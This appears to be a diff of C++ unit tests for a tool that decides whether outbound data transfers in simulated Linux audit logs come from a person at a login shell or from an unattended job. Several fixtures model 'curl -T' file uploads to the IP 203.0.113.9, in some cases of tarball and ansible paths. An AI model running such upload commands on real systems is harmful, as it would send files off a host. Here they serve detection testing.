@@ -78,6 +78,48 @@ TEST_CASE("people: on a host without login sessions who hands out shells is know
   CHECK((tell(log).at(0).automation == transfer::Verdict::unattended) == one.is_machine);
 }
 
+TEST_CASE("people: a login shell by its name with a dash, whatever file it is") {
+  const auto by = GENERATE(table<const char*, const char*>({{"/bin/busybox", "-ash"},
+                                                            {"/bin/busybox", "-sh"},
+                                                            {"/usr/bin/zsh5", "-zsh"},
+                                                            {"/bin/bsd-csh", "-csh"}}));
+  CAPTURE(std::get<1>(by));
+  CronHost log;
+  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "pts0");
+  log.fork(user, 502);
+  log.who(502).tty = "pts0";
+  log.exec(502, std::get<0>(by), {std::get<1>(by)});
+  curl(log, child(log, 502, 503));
+  CHECK(sign_of(one(log)) == "attended interactive-shell");
+}
+
+TEST_CASE("people: what they name in a command is not what has started it") {
+  const std::string operand = GENERATE("/tmp/atlassian-bamboo-9.2.1.tar.gz", "/srv/salt-minion",
+                                       "/opt/venv/bin/ansible", "/srv/.ansible/tmp/ansible-tmp-1/x",
+                                       "java agent.jar", "systemd --user", "/opt/puppet agent");
+  const bool by_cron = GENERATE(false, true);
+  CAPTURE(operand, by_cron);
+  CronHost log;
+  const int shell = by_cron ? log.job("up") : log.person(CronHost::kSshd, 500, 5);
+  const int pid =
+      log.run(shell, 510, "/usr/bin/curl", {"curl", "-T", operand, "http://203.0.113.9/"});
+  log.tcp(pid, 3, kDrop, 80);
+  log.send(pid, 3, 65536);
+  log.done(pid);
+  CHECK(sign_of(one(log)) == (by_cron ? "unattended cron" : "attended interactive-shell"));
+}
+
+TEST_CASE("people: a script of theirs may be called as a daemon is") {
+  const std::string name = GENERATE("init", "cron", "monit", "celery", "upstart");
+  CAPTURE(name);
+  CronHost log;
+  const int shell = log.person(CronHost::kSshd, 500, 5);
+  log.fork(shell, 510);
+  log.exec(510, "/usr/bin/bash", {"/bin/bash", "./" + name}, "./" + name);
+  curl(log, child(log, 510, 511));
+  CHECK(sign_of(one(log)) == "attended interactive-shell");
+}
+
 TEST_CASE("people: a script that a person typed is attended and scripted") {
   CronHost log;
   const int shell = log.person(CronHost::kSshd, 500, 5);
@@ -87,6 +129,78 @@ TEST_CASE("people: a script that a person typed is attended and scripted") {
   CHECK(sign_of(fact) == "attended interactive-shell");
   CHECK(fact.scripted);
   CHECK(fact.script == "./send.sh");
+}
+
+TEST_CASE("people: where no login is in the log, sshd's terminals are somebody's") {
+  // -a always,exclude -F msgtype=USER_LOGIN
+  const bool is_in_log = GENERATE(false, true);
+  CAPTURE(is_in_log);
+  CronHost log;
+  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "");
+  log.fork(user, 502);
+  log.who(502).tty = "pts0";
+  log.exec(502, "/usr/bin/bash", {"-bash"});
+  log.fork(502, 503);
+  log.exec(503, "/usr/bin/sudo", {"sudo", "-i"});
+  log.fork(503, 504);
+  log.exec(504, "/usr/bin/bash", {"-bash"});
+  curl(log, child(log, 504, 505));
+  if (is_in_log) {  // somebody else's
+    static_cast<void>(log.person(CronHost::kSshd, 600, 6));
+  }
+  CHECK(sign_of(one(log)) == (is_in_log ? "unattended ssh-command" : "attended interactive-shell"));
+}
+
+TEST_CASE("people: sudo's sessions do not end the one that they are in") {
+  const bool is_known = GENERATE(false, true);
+  CAPTURE(is_known);
+  CronHost log;
+  int user = 501;
+  if (is_known) {
+    user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "pts0");
+  } else {
+    log.there(501, 500, "/usr/sbin/sshd", 1000, 5);
+  }
+  log.fork(user, 502);
+  log.who(502).tty = "pts0";
+  log.exec(502, "/usr/bin/bash", {"-bash"});
+  log.fork(502, 503);
+  log.exec(503, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+  log.tcp(503, 3, kDrop, 80);
+  log.send(503, 3, 150);
+  log.fork(502, 504);
+  log.exec(504, "/usr/bin/sudo", {"sudo", "true"});
+  log.user("USER_START", 504, "PAM:session_open", "/dev/pts/0");
+  log.user("USER_END", 504, "PAM:session_close", "/dev/pts/0");
+  log.send(503, 3, 65536);
+  log.done(503);
+  CHECK(sign_of(one(log)) == "attended interactive-shell");
+}
+
+TEST_CASE("people: channels of Fedora's sshd") {
+  // The first one was a command; what its end says is not the session's end.
+  CronHost log;
+  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "");
+  log.user("USER_LOGIN", 500, "login", "ssh");
+  log.user("USER_START", 500, "login", "ssh");
+  log.user("USER_START", 500, "login", "/dev/pts/0");
+  log.fork(user, 502);
+  log.who(502).tty = "pts0";
+  log.exec(502, "/usr/bin/bash", {"-bash"});
+  log.fork(502, 503);
+  log.exec(503, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+  log.tcp(503, 3, kDrop, 80);
+  log.send(503, 3, 150);
+  const bool is_over = GENERATE(false, true);
+  CAPTURE(is_over);
+  log.user("USER_END", 500, "login", "ssh");
+  if (is_over) {
+    log.user("USER_END", 500, "PAM:session_close", "ssh");
+  }
+  log.pass(120'000);
+  log.send(503, 3, 65536);
+  log.done(503);
+  CHECK((sign_of(one(log)) == "attended interactive-shell") == !is_over);
 }
 
 TEST_CASE("people: a console login") {
